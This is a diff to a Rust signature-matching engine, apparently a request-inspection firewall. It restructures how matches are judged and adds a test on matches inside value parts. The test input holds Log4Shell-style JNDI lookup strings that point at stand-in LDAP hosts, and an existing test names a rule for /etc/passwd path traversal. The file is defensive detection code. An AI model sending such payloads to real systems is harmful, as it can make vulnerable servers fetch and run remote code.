@@ -84,32 +84,80 @@ fn run_of<'s>(
             set.settle(window);
             continue;
         }
-        if let Some(found) = signature.pattern.find_in(subject.bytes, window.start..window.end) {
-            set.settle(window);
-            let conditional = !signature.conditions.is_empty();
-            if conditional && (!names_match(signature, subject) || !subject.meets_conditions(window.signature)?) {
-                continue;
-            }
+        let mut from = window.start;
+        while let Some(found) = signature.pattern.find_in(subject.bytes, from..window.end) {
             let (start, end) = (found.start(), found.end());
-            if signature.doc.spares_documents {
-                if subject.was_judged(start, end) {
-                    continue;
-                }
-                if text_field::is_content(subject, signature.attack, start, end) {
-                    set.note_spared();
+            match judge(signature, window.signature, subject, start, end)? {
+                Judgement::Counts => hits.push(RuleMatch {
+                    rule: RuleName::Signature(&signature.id),
+                    attack: signature.attack,
+                    confidence: signature.confidence,
+                    start,
+                    end,
+                }),
+                Judgement::NeverHere => {}
+                // What follows may count.
+                spared => {
+                    if spared == Judgement::SparedInDocument {
+                        set.note_spared();
+                    }
+                    from = end.max(start + 1);
+                    if from >= window.end {
+                        break;
+                    }
+                    if CONFIRM_COST > left {
+                        return Err(Stop::Limit);
+                    }
+                    left -= CONFIRM_COST;
+                    budget.spend(CONFIRM_COST)?;
                     continue;
                 }
             }
-            hits.push(RuleMatch {
-                rule: RuleName::Signature(&signature.id),
-                attack: signature.attack,
-                confidence: signature.confidence,
-                start,
-                end,
-            });
+            set.settle(window);
+            break;
         }
     }
     if set.is_truncated() { Err(Stop::Limit) } else { Ok(()) }
+}
+
+/// What a match of a signature says.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Judgement {
+    /// It is a finding.
+    Counts,
+    /// The request, or the name of the parameter, does not meet the conditions of the signature.
+    NeverHere,
+    /// It was judged in the value, or the form of the value, that it belongs to.
+    JudgedElsewhere,
+    /// It is content of a document.
+    SparedInDocument,
+}
+
+/// Judges the match at `start..end` of `signature`, whose number is `number`.
+fn judge(
+    signature: &Signature,
+    number: u32,
+    subject: &Subject<'_>,
+    start: usize,
+    end: usize,
+) -> Result<Judgement, Stop> {
+    let conditional = !signature.conditions.is_empty();
+    if conditional && (!names_match(signature, subject) || !subject.meets_conditions(number)?) {
+        return Ok(Judgement::NeverHere);
+    }
+    if subject.part_around(start, end).is_some() {
+        return Ok(Judgement::JudgedElsewhere);
+    }
+    if !signature.doc.spares_documents {
+        return Ok(Judgement::Counts);
+    }
+    Ok(if subject.was_judged(start, end) {
+        Judgement::JudgedElsewhere
+    } else if text_field::is_content(subject, signature.attack, start, end) {
+        Judgement::SparedInDocument
+    } else {
+        Judgement::Counts
+    })
 }
 
 /// Whether `signature` asks for another name of the parameter, which is short: then its pattern need not be run.
@@ -137,7 +185,7 @@ pub fn matches(signature: &Signature, text: &[u8]) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::model::{PointId, PointTree, Value, Zone};
+    use crate::model::{PointId, PointTree, Span, Value, Zone};
     use crate::normalize::PLAIN;
     use crate::ruleset::{builtin, compile};
     use std::fmt::Write as _;
@@ -210,6 +258,29 @@ mod tests {
         let (mut set, mut hits) = (CandidateSet::default(), Vec::new());
         assert_eq!(run(&ruleset, &subject, PLAIN, &budget, &mut set, &mut hits), Err(Stop::Limit));
         assert!(hits.iter().any(|hit| *hit.rule.name() == *"ptrav.etc-passwd"), "{hits:?}");
+    }
+
+    /// What is in one part of a value was judged there. It hides nothing that follows it or goes beyond it.
+    #[test]
+    fn matches_in_parts_do_not_count_and_hide_nothing() {
+        let ruleset = compile::compile(&builtin::files()).unwrap_or_else(|errors| panic!("{}", errors[0]));
+        let text = b"\x81a cat of ${jndi:ldap://a.example/x} \x82b ${jndi:ldap://b.example/y} ";
+        let second = text.iter().position(|b| *b == 0x82).expect("is there");
+        let first = Span { start: 2, end: second as u32 };
+        let count = |parts: &[Span]| {
+            let tree = PointTree::new();
+            let value = Value { parts, ..Value::new(PointId::ROOT, text, Zone::BODY) };
+            let subject = Subject::new(text, value.classes, &value, &tree);
+            let budget = Budget::new(u64::MAX >> 1, &|| false);
+            let (mut set, mut hits) = (CandidateSet::default(), Vec::new());
+            run(&ruleset, &subject, PLAIN, &budget, &mut set, &mut hits).expect("no limit is reached");
+            hits.iter().map(|hit| hit.start).min()
+        };
+        assert!(count(&[]).is_some_and(|at| at < second));
+        assert!(count(&[first]).is_some_and(|at| at >= second));
+        assert_eq!(count(&[first, Span { start: first.end + 2, end: text.len() as u32 }]), None);
+        // A part that begins within the match is another text.
+        assert!(count(&[Span { start: 14, ..first }]).is_some_and(|at| at < second));
     }
 
     #[test]
